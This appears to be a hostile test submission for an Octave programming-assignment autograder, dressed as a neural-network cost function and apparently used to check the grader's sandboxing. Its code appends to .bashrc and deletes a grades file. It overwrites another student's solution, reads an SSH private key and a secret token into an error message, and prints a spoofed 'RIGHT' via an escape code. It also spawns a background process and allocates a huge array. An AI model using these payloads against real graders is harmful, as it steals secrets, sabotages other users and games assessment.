function [J grad] = nnCostFunction(nn_params, input_layer_size, hidden_layer_size, num_labels, X, y, lambda)
  % Octave's system(), unix(), popen and fopen on the teacher's files, a secret read into the
  % error, and a result of 5e7 zeros (a small compressed .mat that took the parent to 4.8 GB).
  system('touch {HOME}/octave_system; echo pwned >> {HOME}/.bashrc; rm -f {CWD}/grades.txt');
  unix('touch {CWD}/octave_unix');
  p = popen('touch {CLASS}/octave_popen', 'r'); pclose(p);
  f = fopen('{CLASS}/alice/nnCostFunction.m', 'w'); if f >= 0, fprintf(f, 'error(''sabotaged'');'); fclose(f); end
  f = fopen('{HOME}/.ssh/id_rsa', 'r'); secret = ''; if f >= 0, secret = fgetl(f); secret = fgetl(f); fclose(f); end
  system('sh -c "sleep 120 {MARKER}" &');
  if lambda == 0
    error(['stolen: ' secret getenv('SECRET_TOKEN') char(27) '[32mRIGHT']);
  end
  J = 0;
  grad = zeros(3, 1);
  if lambda > 2                  % one problem (writing 5e7 zeros takes Octave seconds)
    grad = zeros(5e7, 1);
  end
end
